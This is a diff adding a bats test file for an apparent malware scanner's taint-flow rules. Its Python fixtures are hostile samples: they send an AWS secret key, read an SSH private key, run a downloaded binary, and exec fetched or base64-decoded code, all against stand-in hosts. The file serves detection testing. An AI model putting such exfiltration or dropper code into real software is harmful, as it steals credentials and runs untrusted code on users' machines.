@@ -1,0 +1,119 @@
+#!/usr/bin/env bats
+# 42-flows.bats: taint flows (rules.yaml `taint:`) — exfiltration, droppers, remote and decoded code.
+
+load helpers/common
+load helpers/parse
+load helpers/analyze
+bats_require_minimum_version 1.5.0
+
+setup() { cd "$BATS_TEST_TMPDIR"; }
+
+flows() {
+	scan "$1" | jq -r 'select(.type == "hit" and (.tags | index("flow"))) | "\(.line) \(.detection) \(.context) \(.score) \(.flow.source) | \(.flow.path) | \(.flow.sink)"'
+}
+
+@test "Exfiltration: an environment variable through variables and a helper into requests.post" {
+	py m.py <<'PY'
+import os, requests
+def collect():
+    return os.environ.get("AWS_SECRET_ACCESS_KEY")
+def send(d):
+    requests.post("https://example.com/c", data=d)
+info = {"k": collect(), "u": os.getlogin()}
+body = str(info)
+send(body)
+PY
+	run flows m.py
+	assert_output "8 Exfiltration import 120 os.environ.get() (line 3) | collect → info → body → send() | send"
+}
+
+@test "Exfiltration: not when the sensitive data only goes to a sanitiser or a local print" {
+	py m.py <<'PY'
+import os, requests
+home = os.environ["HOME"]
+n = len(home)
+print(home)
+requests.get("https://example.com/status", params={"n": n})
+PY
+	run flows m.py
+	assert_output ""
+}
+
+@test "Exfiltration: a credential file read (open of ~/.ssh/id_rsa) sent over a socket" {
+	py m.py <<'PY'
+import socket
+def steal():
+    key = open("/root/.ssh/id_rsa").read()
+    s = socket.socket()
+    s.connect(("192.0.2.1", 4444))
+    socket.getaddrinfo(key, 80)
+PY
+	run flows m.py
+	assert_output --partial "6 Exfiltration function 80 builtins.open() (line 3) | key | socket.getaddrinfo"
+}
+
+@test "Dropper: a download written to a file that is then run; not when the file run is another" {
+	py setup.py <<'PY'
+import requests, subprocess
+r = requests.get("https://example.com/a.bin")
+with open("a.bin", "wb") as f:
+    f.write(r.content)
+subprocess.call(["a.bin"])
+subprocess.call(["ls"])
+PY
+	run flows setup.py
+	assert_output "5 Dropper install 150 requests.get() (line 2) | r → file a.bin | subprocess.call"
+}
+
+@test "Dropper: urlretrieve then chmod of the same path" {
+	py m.py <<'PY'
+import urllib.request, os
+def fetch():
+    urllib.request.urlretrieve("https://example.com/x", "/tmp/x")
+    os.chmod("/tmp/x", 0o755)
+    os.chmod("/tmp/other", 0o755)
+PY
+	run flows m.py
+	assert_output "4 Dropper function 80 urllib.request.urlretrieve() (line 3) |  | os.chmod"
+}
+
+@test "RemoteCodeExecution: a response body into exec; a constant string is not" {
+	py m.py <<'PY'
+import requests
+code = requests.get("https://example.com/p.py").text
+exec(code)
+exec("x = 1")
+PY
+	run flows m.py
+	assert_output "3 RemoteCodeExecution import 120 requests.get() (line 2) | code | builtins.exec"
+}
+
+@test "ObfuscatedCodeExecution: decoded data into exec; decoded data printed is not" {
+	py m.py <<'PY'
+import base64, zlib
+blob = zlib.decompress(base64.b64decode("eJwrKMrMK1EoyUgtSgUAGMoEPQ=="))
+exec(blob)
+print(base64.b64decode("aGk="))
+PY
+	run flows m.py
+	assert_output --partial "3 ObfuscatedCodeExecution import 100"
+	[ "${#lines[@]}" -eq 1 ]
+}
+
+@test "flows inside a function reached from the top level weigh as top level and say so" {
+	py m.py <<'PY'
+import os, requests
+def main():
+    requests.post("https://example.com", data=os.environ.get("TOKEN"))
+main()
+PY
+	run bash -c "$(declare -f scan file_record); scan m.py | jq -r 'select(.type == \"hit\" and .detection == \"Exfiltration\") | [.context, .score, (.message | contains(\"reached through main()\"))] | @tsv'"
+	assert_output "$(printf 'import\t120\ttrue')"
+}
+
+@test "a flow rule naming an undeclared label is a clear error" {
+	printf 'version: 1\ntaint:\n  sources: [{label: a, names: [x.y]}]\n  sinks: [{label: b, names: [z]}]\n  flows:\n    - {detection: F, from: c, to: b, category: x, severity: low, score: 1, message: m}\n' >bad.yaml
+	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == *"no taint source labelled 'c'"* ]]
+}
